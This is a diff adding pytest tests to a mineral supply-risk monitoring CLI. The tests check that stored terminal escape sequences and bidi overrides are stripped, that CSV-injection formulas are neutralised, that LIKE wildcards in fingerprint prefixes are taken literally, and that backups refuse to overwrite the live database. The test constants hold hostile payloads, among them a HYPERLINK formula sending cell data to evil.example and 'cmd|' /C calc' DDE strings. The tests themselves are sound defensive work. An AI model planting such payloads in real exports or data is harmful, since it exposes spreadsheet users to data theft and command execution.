@@ -443,3 +443,229 @@ def test_readme_config_check_line_runs_exactly_as_written(tmp_path: Path,
     assert code == 0, err
     code, _, err = invoke(*shlex.split(f"--state-dir {tmp_path} health"))
     assert code == 1 and "no database" in err
+
+
+# --------------------------------------------------------------------------- hostile stored text
+
+#: What a feed or a server once managed to store: an OSC title change ended by BEL, a CSI
+#: (7-bit and C1), an OSC as C1, a right-to-left override.
+HOSTILE_ERROR = "HTTP 503 \x1b]0;owned\x07Service \x1b[2JUnavailable"
+HOSTILE_TITLE = "China \x9b31mbans\x9d0;x\x07 gallium \u202eexports"
+TERMINAL_HAZARDS = ("\x1b", "\x07", "\x9b", "\x9d", "\u202e")
+#: Cells a spreadsheet would run as a formula (OWASP CSV injection), each a news title.
+FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+def _now_iso() -> str:
+    from datetime import UTC, datetime
+
+    return datetime.now(UTC).isoformat()
+
+
+def _insert_news(store: Store, item_id: str, title: str) -> None:
+    """Straight into the table, as an old version of critmon (no cleaning at ingest) did."""
+    at = _now_iso()
+    store.db["news_items"].insert({
+        "id": item_id, "source": "gnews", "url": f"https://example.org/{item_id}\x9b",
+        "title": title, "published_at": at, "fetched_at": at, "kind": "export_ban",
+        "is_supply_risk_event": 1, "confidence": 0.9, "risk_confidence": 0.9,
+        "country": "China\u202e"})
+    store.db["news_tags"].insert({"item_id": item_id, "mineral": "gallium", "direct": 1})
+
+
+@pytest.fixture
+def hostile_state(tmp_path: Path) -> Path:
+    """A state database holding control characters and formulas in every kind of text."""
+    state = tmp_path / "state"
+    state.mkdir(mode=0o700)
+    with Store.open(state / DB_NAME) as store:
+        store.db["source_state"].insert({
+            "source": "fred_nickel", "kind": "fred_csv", "status": "failing\x1b[5m",
+            "last_error": HOSTILE_ERROR, "consecutive_failures": 3})
+        _insert_news(store, "x:hostile", HOSTILE_TITLE)
+        for n, formula in enumerate(FORMULAS):
+            _insert_news(store, f"x:formula{n}", formula)
+        store.db["alert_events"].insert({
+            "at": _now_iso(), "fingerprint": "f00dfeed" * 4, "alertname": "@SUM(1)",
+            "mineral": "gallium", "kind": "fired", "from_state": "pending",
+            "to_state": "firing", "level": "high", "value": -0.5,
+            "detail": '=HYPERLINK("http://evil.example","x") ' + HOSTILE_TITLE})
+    return state
+
+
+@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
+@pytest.mark.parametrize("command", [["sources", "list"], ["news"], ["history"]])
+def test_stored_control_and_bidi_characters_never_reach_the_terminal(
+        hostile_state: Path, command: list[str], fmt: str) -> None:
+    code, out, err = invoke("--config", str(default_config_dir()), "--state-dir",
+                            str(hostile_state), *command, "--format", fmt)
+    assert code == 0, err
+    assert [h for h in TERMINAL_HAZARDS if h in out + err] == []
+    if fmt == "json":
+        json.loads(out)  # still valid JSON
+    visible = "Unavailable" if command == ["sources", "list"] else "gallium"
+    assert visible in out
+
+
+def test_sources_list_shows_the_stored_error_without_its_escape_sequences(
+        hostile_state: Path) -> None:
+    code, out, _ = invoke("--config", str(default_config_dir()), "--state-dir",
+                          str(hostile_state), "sources", "list", "--format", "json")
+    assert code == 0
+    row = next(r for r in json.loads(out) if r["source"] == "fred_nickel")
+    assert row["last_error"] == "HTTP 503 ]0;ownedService [2JUnavailable"
+
+
+def _csv_rows(out: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(out)))
+
+
+def test_news_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(
+        hostile_state: Path) -> None:
+    code, out, _ = invoke("--state-dir", str(hostile_state), "news", "--format", "csv")
+    assert code == 0
+    titles = {row["title"] for row in _csv_rows(out)}
+    assert {"'" + f.replace("\r", "") if f.startswith("\r") else "'" + f
+            for f in FORMULAS} <= titles
+    assert not [t for t in titles if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_history_csv_neutralises_formulas_but_keeps_numbers_numbers(hostile_state: Path
+                                                                    ) -> None:
+    code, out, _ = invoke("--state-dir", str(hostile_state), "history", "--format", "csv")
+    assert code == 0
+    (row,) = _csv_rows(out)
+    assert row["alertname"] == "'@SUM(1)"
+    assert row["detail"].startswith("'=HYPERLINK(")
+    assert row["value"] == "-0.5"  # a negative number is a number, not a formula
+    code, out, _ = invoke("--state-dir", str(hostile_state), "history", "--format", "json")
+    assert json.loads(out)[0]["value"] == -0.5 and json.loads(out)[0]["alertname"] == "@SUM(1)"
+
+
+# --------------------------------------------------------------------------- fingerprint prefixes
+
+
+@pytest.fixture
+def two_alerts(tmp_path: Path) -> tuple[Path, dict[str, str]]:
+    """A state directory with gallium and tin firing; returns it and their fingerprints."""
+    from datetime import UTC, datetime
+
+    from monitor.alerting.pipeline import enqueue_signals
+    from monitor.config.load import load_config
+    from monitor.core.models import Signal
+
+    state = tmp_path / "state"
+    state.mkdir(mode=0o700)
+    signals = [Signal(rule="supply_risk_level", mineral=m, indicator="supply_risk", firing=True,
+                      level="high", value=80.0) for m in ("gallium", "tin")]
+    with Store.open(state / DB_NAME) as store:
+        enqueue_signals(store, load_config(None), signals, datetime.now(UTC))
+        prints = {r["mineral"]: r["fingerprint"] for r in store.db.query(
+            "SELECT mineral, fingerprint FROM alert_state")}
+    return state, prints
+
+
+def _acks(state: Path) -> int:
+    with Store.open(state / DB_NAME) as store:
+        return store.db.execute("SELECT COUNT(*) FROM acks").fetchone()[0]
+
+
+@pytest.mark.parametrize("ref", ["%", "_", "\\", "%%", "{fp4}%", "{fp4}_"])
+def test_ack_takes_like_wildcards_literally(two_alerts: tuple[Path, dict[str, str]],
+                                            ref: str) -> None:
+    state, prints = two_alerts
+    code, _, err = invoke("--state-dir", str(state), "ack",
+                            ref.format(fp4=prints["gallium"][:4]), "-c", "x", "--author", "ana")
+    assert code == 1 and "no alert with id or fingerprint" in err
+    assert _acks(state) == 0
+
+
+def test_ack_still_takes_a_real_fingerprint_prefix(two_alerts: tuple[Path, dict[str, str]]
+                                                   ) -> None:
+    state, prints = two_alerts
+    code, out, _ = invoke("--state-dir", str(state), "ack", prints["tin"][:6].upper(), "-c",
+                          "x", "--author", "ana")
+    assert code == 0 and "(tin supply_risk_level, high)" in out
+    assert _acks(state) == 1
+
+
+@pytest.mark.parametrize("ref", ["%", "_", "%{fp4}", "{fp4}%"])
+def test_history_fingerprint_takes_like_wildcards_literally(
+        two_alerts: tuple[Path, dict[str, str]], ref: str) -> None:
+    state, prints = two_alerts
+    code, out, _ = invoke("--state-dir", str(state), "history", "--format", "json",
+                          "--fingerprint", ref.format(fp4=prints["tin"][:4]))
+    assert code == 0 and json.loads(out) == []
+    code, out, _ = invoke("--state-dir", str(state), "history", "--format", "json",
+                          "--fingerprint", prints["tin"][:5])
+    assert code == 0 and {row["mineral"] for row in json.loads(out)} == {"tin"}
+
+
+# --------------------------------------------------------------------------- db backup targets
+
+
+@pytest.fixture
+def live_state(tmp_path: Path) -> Path:
+    state = tmp_path / "state"
+    state.mkdir(mode=0o700)
+    with Store.open(state / DB_NAME) as store:
+        store.set_meta("canary", "alive")
+    return state
+
+
+def _canary(db: Path) -> str | None:
+    with Store.open(db, migrate=False) as store:
+        return store.get_meta("canary")
+
+
+@pytest.mark.parametrize("name", [DB_NAME, DB_NAME + "-wal", DB_NAME + "-shm"])
+def test_db_backup_never_writes_over_the_live_database(live_state: Path, name: str) -> None:
+    code, _, err = invoke("--state-dir", str(live_state), "db", "backup", "--force",
+                          str(live_state / name))
+    assert code == 73 and str(live_state / name) in err and "state database" in err
+    assert _canary(live_state / DB_NAME) == "alive"
+
+
+def test_db_backup_through_a_symlink_to_the_live_database_is_refused(
+        live_state: Path, tmp_path: Path) -> None:
+    link = tmp_path / "backup.db"
+    link.symlink_to(live_state / DB_NAME)
+    code, _, err = invoke("--state-dir", str(live_state), "db", "backup", str(link))
+    assert code == 73 and "state database" in err
+    assert _canary(live_state / DB_NAME) == "alive"
+
+
+def test_db_backup_into_a_missing_directory_says_so(live_state: Path, tmp_path: Path) -> None:
+    code, _, err = invoke("--state-dir", str(live_state), "db", "backup",
+                          str(tmp_path / "nowhere" / "b.db"))
+    assert code == 73 and f"there is no directory {tmp_path / 'nowhere'}" in err
+
+
+def test_db_backup_replaces_a_previous_backup_but_not_other_files(live_state: Path,
+                                                                  tmp_path: Path) -> None:
+    target = tmp_path / "backup.db"
+    assert invoke("--state-dir", str(live_state), "db", "backup", str(target))[0] == 0
+    target.chmod(0o644)
+    assert invoke("--state-dir", str(live_state), "db", "backup", str(target))[0] == 0
+    assert _canary(target) == "alive" and target.stat().st_mode & 0o777 == 0o600
+    notes = tmp_path / "notes.txt"
+    notes.write_text("precious\n", encoding="utf-8")
+    code, _, err = invoke("--state-dir", str(live_state), "db", "backup", str(notes))
+    assert code == 73 and str(notes) in err and "--force" in err
+    assert notes.read_text(encoding="utf-8") == "precious\n"
+    assert invoke("--state-dir", str(live_state), "db", "backup", "--force", str(notes))[0] == 0
+    assert _canary(notes) == "alive"
+
+
+def test_demo_lines_keep_their_colour_but_not_escapes_from_alert_text() -> None:
+    from datetime import date
+    from types import SimpleNamespace
+
+    from monitor.cli.backtest import demo_line
+
+    alert = SimpleNamespace(annotations=(("summary", "China \x1b]0;x\x07bans \u202egallium"),),
+                            alertname="policy_event", mineral="gallium")
+    line = demo_line(date(2023, 7, 3), SimpleNamespace(kind="fired", alert=alert, level="high"))
+    assert line.count("\x1b") == 3  # click.style: red, bold, reset; none from the summary
+    assert line.endswith("China ]0;xbans gallium")
